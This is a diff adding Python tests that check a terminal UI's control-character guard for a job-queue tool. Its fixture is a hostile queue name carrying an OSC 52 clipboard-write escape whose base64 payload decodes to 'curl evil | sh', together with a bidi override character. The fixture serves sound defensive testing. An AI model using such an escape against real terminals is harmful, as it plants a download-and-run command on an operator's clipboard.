@@ -170,3 +170,73 @@ async def test_a_filter_that_looks_like_markup_is_shown_as_typed(app_for) -> Non
             "the toast drawn",
         )
         assert app.is_running
+
+
+OSC52 = "r\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x1b\\eports\u202e"
+"""A queue name a row's writer chose: an OSC 52 clipboard write and a bidi override."""
+
+
+def _drawn(widget) -> str:
+    """Every line of ``widget`` as Textual hands it to the terminal, filters applied."""
+    return "\n".join(
+        "".join(segment.text for segment in strip)
+        for strip in widget.render_lines(widget.region.reset_offset)
+    )
+
+
+def test_the_guard_removes_control_characters_and_keeps_the_width() -> None:
+    from rich.segment import Segment
+    from textual.color import Color
+
+    from tui.guard import ControlGuard
+
+    move = Segment("\x1b[2J", None, [(1,)])  # a control segment: Textual's own, kept
+    text = Segment(OSC52 + " x")
+    [kept, cleaned] = ControlGuard().apply([move, text], Color(0, 0, 0))
+    assert kept is move
+    assert "\x1b" not in cleaned.text and "\u202e" not in cleaned.text
+    assert cleaned.cell_length == text.cell_length
+    plain = [Segment("plain")]
+    assert ControlGuard().apply(plain, Color(0, 0, 0)) is plain
+
+
+async def test_a_hostile_queue_never_reaches_the_terminal_raw(app_for) -> None:
+    """Enter on its Queues row set a filter whose status line sent the OSC 52 (the
+    operator's clipboard); its first letter typed in the start dialog's queue field drew
+    Textual's suggestion of it, raw."""
+    from textual.widgets import Input
+
+    from queuectl.store.models import Job
+    from tui.panes.queues import QueuesPane
+    from tui.screens.confirm import CountScreen
+
+    seed_job("evil")
+    Job.update(queue=OSC52).where(Job.id == "evil").execute()
+    app = app_for()
+    async with app.run_test(size=(120, 30)) as pilot:
+        await refreshed(pilot)
+        assert OSC52 not in app.known_queues()  # no suggestion of a name nobody could type
+        await pilot.press("5")
+        pane = app.query_one(QueuesPane)
+        await wait_for(pilot, lambda: pane.table.row_count == 1, "the queue's row")
+        await pilot.press("enter")
+        jobs = app.query_one(JobsPane)
+        await wait_for(pilot, lambda: "filter: queue:" in jobs.status, "the filtered jobs")
+        assert "\x1b" not in jobs.status and "\u202e" not in jobs.status
+        await pilot.pause()
+        for widget in app.screen.query("*"):
+            if widget.region.area:
+                assert "\x1b" not in _drawn(widget), widget
+        # The guard under Textual's own drawing: an input suggesting the hostile name.
+        await pilot.press("3", "s")
+        await wait_for(pilot, lambda: isinstance(app.screen, CountScreen), "the dialog")
+        field = app.screen.query_one("#queues", Input)
+        from textual.suggester import SuggestFromList
+
+        field.suggester = SuggestFromList([OSC52], case_sensitive=True)
+        field.value = ""
+        field.focus()
+        await pilot.press("r")
+        await wait_for(pilot, lambda: field._suggestion == OSC52, "the suggestion")
+        await pilot.pause()
+        assert "\x1b" not in _drawn(field) and "eports" in _drawn(field)
